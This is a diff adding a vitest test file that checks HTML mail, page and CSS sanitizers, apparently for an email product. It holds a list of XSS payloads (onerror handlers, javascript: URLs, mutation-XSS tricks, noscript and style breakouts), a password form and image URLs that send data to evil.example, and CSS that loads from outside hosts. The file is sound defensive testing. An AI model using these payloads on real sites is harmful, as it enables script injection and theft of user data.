@@ -1,0 +1,91 @@
+import { expect, test } from 'vitest';
+import { activeParts } from '../../test/active-part.ts';
+import { sanitizeMail, sanitizePage, sanitizeRichText } from './sanitize.ts';
+import { sanitizeStyleSheet } from './sanitize-css.ts';
+import { newSentinel, valueMark } from './sentinel.ts';
+
+const sentinel = newSentinel();
+const context = { baseUrl: 'https://firstlook.example', sentinel };
+const attacks = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="data:text/html,<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" java\tscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
+  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
+  '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
+  '<!--[if mso]><script>alert(1)</script><![endif]-->',
+  '<!--[if mso]><td onclick="alert(1)"><![endif]-->',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<style>@import url(https://evil.example/x.css)</style>',
+  '<details open ontoggle=alert(1)>x</details>',
+];
+
+test.each(attacks)('nothing active is left of %s', (attack) => {
+  expect(activeParts(sanitizeRichText(attack))).toEqual([]);
+  expect(activeParts(sanitizeMail(attack, context).html)).toEqual([]);
+  expect(activeParts(sanitizePage(attack, context))).toEqual([]);
+});
+
+test('harmless rich text keeps its shape', () => {
+  const html =
+    '<h2 dir="rtl">כותרת</h2><p style="text-align:start"><strong>מודגש</strong></p><ul><li>אחד</li></ul>';
+  expect(sanitizeRichText(html)).toBe(html);
+});
+
+test("Outlook's layout tables stay, other comments go", () => {
+  const outlook =
+    '<!--[if mso | IE]><table role="presentation" style="width:640px;" width="640"><tr><td><![endif]-->';
+  const html = `${outlook}<div>x</div><!-- note -->`;
+  expect(sanitizeMail(html, context).html).toBe(`${outlook}<div>x</div>`);
+});
+
+test('web links are tracked once, our own addresses and mail links are not', () => {
+  const leave = valueMark(sentinel, 'unsubscribeUrl');
+  const { html, links } = sanitizeMail(
+    `<a href="https://a.example/?x=1&amp;y=2">1</a><a href="https://a.example/?x=1&amp;y=2">2</a><a href="mailto:a@b.example">3</a><a href="${leave}">4</a>`,
+    context,
+  );
+  expect(links).toEqual(['https://a.example/?x=1&y=2']);
+  expect(html).toContain('href="mailto:a@b.example"');
+  expect(html).toContain(`href="${leave}"`);
+  expect(html).not.toContain('https://a.example');
+});
+
+test('no address and no attribute can carry a name away', () => {
+  const name = valueMark(sentinel, 'recipientName');
+  const html = `<a href="https://evil.example/?n=${name}">x</a><img src="https://evil.example/${name}.png" alt="${name}">`;
+  expect(sanitizeMail(html, context).html).not.toContain(name);
+  expect(sanitizePage(html, context)).not.toContain(name);
+});
+
+test.each([
+  '@import url("https://evil.example/x.css");',
+  '@im\\port "https://evil.example/x.css";',
+  'a{background:url(https://evil.example/x.png)}',
+  'a{background:u\\72l(https://evil.example/x.png)}',
+  'a{background:url(//evil.example/x.png)}',
+  'a{background:image-set("https://evil.example/x.png" 1x)}',
+  'a{background:url(https://firstlook.example.evil.example/x.png)}',
+  'a{width:expression(alert(1))}',
+  'a{behavior:url(x.htc)}',
+  'a{}</style><script>alert(1)</script>',
+])('a style sheet cannot load from elsewhere or leave its element: %s', (css) => {
+  const clean = sanitizeStyleSheet(css, context.baseUrl);
+  expect(clean).not.toMatch(
+    /url\s*\(\s*"?(?:https?:)?\/\/(?!firstlook\.example\/)|@import|expression\(|behavior|<|image-set/i,
+  );
+});
+
+test('a style sheet may use our own fonts and files', () => {
+  const css = '@font-face{font-family:X;src:url("/fonts/x.woff2")}';
+  expect(sanitizeStyleSheet(css, context.baseUrl)).toBe(css);
+});
